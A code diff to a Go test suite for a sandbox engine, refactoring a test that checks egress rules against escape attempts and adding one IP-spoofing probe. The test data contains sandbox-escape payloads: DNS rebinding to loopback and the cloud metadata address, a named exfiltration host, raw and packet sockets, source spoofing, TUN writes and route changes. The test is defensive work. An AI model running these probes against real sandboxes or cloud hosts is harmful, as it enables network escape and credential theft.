@@ -133,12 +133,23 @@ func escapes() []escape {
 	return out
 }
 
+// escapeRules are those under which the attempts are made.
+var escapeRules = brig.Egress{Rules: []brig.EgressRule{{Host: "ok.test"}, {Host: "*.ok.test"}, {CIDR: good}}}
+
 // Nothing that a sandbox tries arrives where no rule allows it, and no name is
 // asked for that none allows.
 func TestEgressEscapes(t *testing.T) {
 	if !inLab(t) {
 		return
 	}
+	l := newEscapeLab(t)
+	e, ctx := engineWith(t, engine.Options{Egress: engine.EgressOptions{Resolver: l.resolver()}})
+	l.escapes(t, e, ctx, brig.Spec{})
+}
+
+// newEscapeLab is a lab with names that lead where they should not.
+func newEscapeLab(t *testing.T) *lab {
+	t.Helper()
 	l := newEgressLab(t)
 	l.name("ok.test", good)
 	l.name("rebind.ok.test", "10.0.0.1", "127.0.0.1", "169.254.169.254", "203.0.113.5")
@@ -153,13 +164,22 @@ func TestEgressEscapes(t *testing.T) {
 	l.name("secret.exfil.test", evil)
 	l.serve(80, greet)
 	l.serve(443, greet)
-	rules := brig.Egress{Rules: []brig.EgressRule{{Host: "ok.test"}, {Host: "*.ok.test"}, {CIDR: good}}}
-	e, ctx := engineWith(t, engine.Options{Egress: engine.EgressOptions{Resolver: l.resolver()}})
-	box, err := e.Create(ctx, brig.Spec{Egress: rules, TTL: 20 * time.Minute, Limits: brig.Limits{Memory: brig.GiB}})
+	return l
+}
+
+// escapes has a sandbox try to get out, and sees to it that it could be seen.
+func (l *lab) escapes(t *testing.T, e *engine.Engine, ctx context.Context, spec brig.Spec) {
+	spec.Egress, spec.TTL, spec.Limits.Memory = escapeRules, 20*time.Minute, brig.GiB
+	box, err := e.Create(ctx, spec)
 	if err != nil {
 		t.Fatal(err)
 	}
 	name := box.Spec.Name
+	t.Cleanup(func() {
+		if err := e.Remove(context.WithoutCancel(ctx), name); err != nil {
+			t.Error(err)
+		}
+	})
 	try := func(code string) string {
 		r, err := e.RunCode(ctx, name, brig.Code{Language: brig.Python, Source: code, Timeout: time.Minute}, nil)
 		if err != nil {
@@ -259,6 +279,7 @@ func escapesAsRoot(t *testing.T, e *engine.Engine, ctx context.Context, name str
 		"raw(1, '" + evil + "')", "raw(255, '" + evil + "')", "raw(17, '8.8.8.8')",
 		"s=socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(('eth0',0)); s.send(b'x'*100)",
 		"s=socket.socket(); s.setsockopt(0, 19, 1); s.bind(('203.0.113.1', 0)); s.connect(('" + good + "', 80)); print('spoofed')",
+		"s=socket.socket(); s.setsockopt(0, 15, 1); s.bind(('203.0.113.1', 0)); s.connect(('" + good + "', 80)); print('spoofed')",
 		"import fcntl; f=open('/dev/net/tun','r+b',buffering=0); fcntl.ioctl(f, 0x400454ca, struct.pack('16sH','eth0'.encode(), 0x1001)); f.write(b'x'*40)",
 		"os.system('ip addr add 203.0.113.1/32 dev eth0; ip route add 169.254.169.254 dev lo; ip link set eth0 down')",
 		"os.unshare(os.CLONE_NEWNET) if hasattr(os,'unshare') else None; tcp('" + evil + "', 80)",
